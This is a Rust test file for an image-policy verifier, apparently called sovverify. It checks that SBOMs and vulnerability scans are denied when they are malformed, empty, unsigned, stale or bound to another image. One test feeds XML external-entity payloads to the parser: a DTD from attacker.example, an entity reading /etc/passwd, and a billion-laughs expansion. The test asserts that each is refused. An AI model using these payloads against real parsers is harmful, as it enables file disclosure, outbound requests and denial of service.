//! What SBOMs and scans say: no entities, no other image, no age of their own making.

use std::fmt::Write as _;
use std::slice::from_ref;

use serde_json::{Value, json};
use sovverify::evidence::Form;
use sovverify::{Code, Decision, Digest};
use sovverify_forge::{Statement, days};

use crate::world::{COSIGN_SCAN, CYCLONEDX, SCAN, World, codes, evidence, scan};

const SBOM: &str = "    - { name: sbom, sbom: { by: [release] } }";

/// A small CycloneDX document in XML, with `prologue` before its root.
fn xml(prologue: &str, name: &str) -> Value {
    json!(format!(
        r#"<?xml version="1.0" encoding="UTF-8"?>{prologue}<bom xmlns="http://cyclonedx.org/schema/bom/1.6" version="1"><components><component type="library"><name>{name}</name><version>1</version></component></components></bom>"#
    ))
}

#[test]
fn gauntlet_164_cyclonedx_with_a_doctype_is_refused_before_any_entity() {
    let world = World::new();
    let set = world.policy(SBOM);
    world.admits(
        &set,
        &[world.attest("release", CYCLONEDX, xml("", "a &amp; b"))],
    );
    let mut laughs = String::new();
    for n in 1..9 {
        let _ = write!(laughs, "<!ENTITY l{n} \"&l{};&l{};\">", n - 1, n - 1);
    }
    for (prologue, name) in [
        ("<!DOCTYPE bom>", "a"),
        ("<!doctype bom>", "a"),
        (
            "<!DOCTYPE bom SYSTEM \"http://attacker.example/bom.dtd\">",
            "a",
        ),
        (
            "<!DOCTYPE bom [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
            "&x;",
        ),
        (
            "<!DOCTYPE bom [<!ENTITY % p SYSTEM \"http://attacker.example/p\"> %p;]>",
            "a",
        ),
        (
            &format!("<!DOCTYPE bom [<!ENTITY l0 \"ha\">{laughs}]>"),
            "&l8;",
        ),
        ("", "&x;"),
        ("", "&#0;"),
        ("<!ENTITY x \"y\">", "a"),
    ] {
        let lie = world.attest("release", CYCLONEDX, xml(prologue, name));
        let verdict = world.judge(&set, &[lie]);
        assert_eq!(verdict.decision, Decision::Deny, "{prologue} {name}");
        let known = [Code::SbomMalformed, Code::SbomUnsupported];
        let codes = codes(&verdict);
        assert!(
            codes.iter().any(|code| known.contains(code)),
            "{prologue}: {codes:?}"
        );
    }
}

#[test]
fn gauntlet_165_an_sbom_of_another_image_does_not_count_where_it_is_bound() {
    let world = World::new();
    let bound = world.policy("    - { name: sbom, sbom: { by: [release], subject: image } }");
    let loose = world.policy(SBOM);
    let other = Digest::sha256(b"another image");
    let spdx = |hex: &str| {
        let mut statement = Statement::spdx(&world.digest(), "linux/amd64");
        let sums = json!([{ "algorithm": "SHA256", "checksumValue": hex }]);
        statement.predicate["packages"][0]["checksums"] = sums;
        world.stated("release", &statement)
    };
    let cyclonedx = |hex: &str| {
        let bom = json!({
            "bomFormat": "CycloneDX",
            "specVersion": "1.6",
            "metadata": { "component": { "type": "container", "name": "app", "hashes": [{ "alg": "SHA-256", "content": hex }] } },
            "components": [{ "type": "library", "name": "greeting", "version": "1" }],
        });
        world.attest("release", CYCLONEDX, bom)
    };
    let hex = world.image.digest().hex();
    for honest in [spdx(&hex), cyclonedx(&hex)] {
        world.admits(&bound, &[honest]);
    }
    for lie in [spdx(&other.hex()), cyclonedx(&other.hex()), world.spdx()] {
        world.denies(&bound, from_ref(&lie), Code::SbomSubjectMismatch);
        world.admits(&loose, &[lie]);
    }
    // The statement's own subject is bound whatever the policy says.
    let moved = world.stated(
        "release",
        &Statement::spdx(&other.to_string(), "linux/amd64"),
    );
    world.denies(&loose, &[moved], Code::SubjectMismatch);
}

#[test]
fn gauntlet_165_an_sbom_that_nobody_signed_never_satisfies_a_policy() {
    let world = World::new();
    let document = Statement::spdx(&world.digest(), "linux/amd64");
    let subject = world.image.digest();
    let unsigned = evidence(
        subject,
        Form::UnsignedSbom {
            media_type: "application/spdx+json".to_owned(),
            document: document.predicate.to_string().into_bytes(),
        },
    );
    let in_index = evidence(
        subject,
        Form::IndexStatement {
            predicate_type: document.predicate_type.clone(),
            statement: document.bytes(),
        },
    );
    for require in [
        SBOM,
        "    - { name: sbom, attestation: { type: spdx, by: [release] } }",
    ] {
        let set = world.policy(require);
        world.denies(&set, from_ref(&unsigned), Code::SbomUnsigned);
        world.denies(&set, from_ref(&in_index), Code::SbomUnsigned);
        world.admits(&set, &[unsigned.clone(), in_index.clone(), world.spdx()]);
    }
}

#[test]
fn gauntlet_167_freshness_is_proven_time_and_never_a_date_in_the_document() {
    let world = World::new();
    let set = world.policy("    - { name: scan, vulnerabilities: { by: [scanner], maxAge: 7d } }");
    let signed = |days_before: i64, finished: &str| {
        let mut predicate = scan(&[]);
        predicate["metadata"] = json!({ "scanStartedOn": finished, "scanFinishedOn": finished });
        let signing = world.signing_at("scanner", days(world.time, -days_before));
        world.attached(&signing.statement(&world.about(SCAN, predicate)))
    };
    world.admits(&set, &[signed(0, "2026-03-02T11:03:00Z")]);
    let old = Code::VulnerabilityScanTooOld;
    // An old signature with a young date, a young signature on an old scan, a date yet to come.
    world.denies(&set, &[signed(20, "2026-03-02T11:03:00Z")], old);
    world.denies(&set, &[signed(0, "2025-03-02T11:03:00Z")], old);
    world.denies(&set, &[signed(0, "2027-03-02T11:03:00Z")], old);
    // A second timestamp on an old signature makes it no younger.
    let again = world
        .signing_at("scanner", days(world.time, -20))
        .stamped_at(world.time)
        .timestamped(1);
    let again = world.attached(&again.statement(&world.about(SCAN, scan(&[]))));
    world.denies(&set, &[again], old);
    // What no log and no authority dated has no age at all.
    let undated = world.documents(
        "apiVersion: policy.sovverify.dev/v1alpha1
kind: ClusterImagePolicy
metadata: { name: x }
spec:
  match: { images: [\"**\"] }
  signers: { scanner: { key: { file: scanner }, trustRoot: none } }
  require:
    - { name: scan, vulnerabilities: { by: [scanner], maxAge: 520w } }
",
    );
    let bare = world
        .signing("scanner")
        .unlogged()
        .statement(&world.about(SCAN, scan(&[])));
    world.denies(&undated.unwrap(), &[world.attached(&bare)], old);
    // The same for SBOMs, which also tell a date of their own.
    let set = world.policy("    - { name: sbom, sbom: { by: [release], maxAge: 7d } }");
    let created = |date: Value| {
        let mut statement = Statement::spdx(&world.digest(), "linux/amd64");
        statement.predicate["creationInfo"]["created"] = date;
        world.stated("release", &statement)
    };
    world.admits(&set, &[world.spdx()]);
    world.denies(
        &set,
        &[created(json!("2025-03-02T11:03:00Z"))],
        Code::SbomTooOld,
    );
    world.denies(
        &set,
        &[created(json!("2027-03-02T11:03:00Z"))],
        Code::SbomTooOld,
    );
    let undated = world.judge(&set, &[created(Value::Null)]);
    assert_eq!(undated.decision, Decision::Deny);
}

#[test]
fn gauntlet_164_nothing_that_lists_nothing_passes_as_clean() {
    let world = World::new();
    let sbom = world.policy(SBOM);
    let bom = |rest: Value| {
        let mut bom = json!({ "bomFormat": "CycloneDX", "specVersion": "1.6", "version": 1 });
        bom.as_object_mut()
            .unwrap()
            .extend(rest.as_object().unwrap().clone());
        bom
    };
    let part = json!([{ "type": "library", "name": "greeting", "version": "1" }]);
    world.admits(
        &sbom,
        &[world.attest("release", CYCLONEDX, bom(json!({ "components": part })))],
    );
    for empty in [
        json!({}),
        json!({ "components": [] }),
        json!({ "components": null }),
    ] {
        let verdict = world.judge(
            &sbom,
            &[world.attest("release", CYCLONEDX, bom(empty.clone()))],
        );
        assert_eq!(verdict.decision, Decision::Deny, "{empty}");
    }
    let mut bare = Statement::spdx(&world.digest(), "linux/amd64");
    bare.predicate["packages"] = json!([]);
    bare.predicate["relationships"] = json!([]);
    world.denies(&sbom, &[world.stated("release", &bare)], Code::SbomEmpty);
}

#[test]
fn gauntlet_164_a_scan_that_says_nothing_is_no_clean_scan() {
    let world = World::new();
    let scanned = world.policy("    - { name: scan, vulnerabilities: { by: [scanner] } }");
    let sbom = json!({
        "bomFormat": "CycloneDX",
        "specVersion": "1.6",
        "components": [{ "type": "library", "name": "greeting", "version": "1" }],
    });
    // A scan must say that it found nothing: to say nothing is another thing.
    world.admits(&scanned, &[world.attest("scanner", SCAN, scan(&[]))]);
    for (kind, silent) in [
        (SCAN, json!({})),
        (SCAN, json!({ "scanner": {} })),
        (SCAN, json!({ "scanner": { "result": null } })),
        (SCAN, json!({ "scanner": { "result": {} } })),
        (SCAN, json!({ "scanner": { "result": [{}] } })),
        (COSIGN_SCAN, json!({ "scanner": { "result": {} } })),
        (COSIGN_SCAN, json!({ "scanner": { "result": "" } })),
        (
            COSIGN_SCAN,
            json!({ "scanner": { "result": { "Results": null } } }),
        ),
        (
            COSIGN_SCAN,
            json!({ "scanner": { "result": { "matches": null } } }),
        ),
        (
            COSIGN_SCAN,
            json!({ "scanner": { "result": { "runs": [] } } }),
        ),
        // An SBOM is no scan that found nothing.
        (CYCLONEDX, sbom),
    ] {
        let verdict = world.judge(&scanned, &[world.attest("scanner", kind, silent.clone())]);
        assert_eq!(verdict.decision, Decision::Deny, "{silent}");
        let codes = codes(&verdict);
        assert!(
            codes.contains(&Code::VulnerabilityMalformed),
            "{silent}: {codes:?}"
        );
    }
}
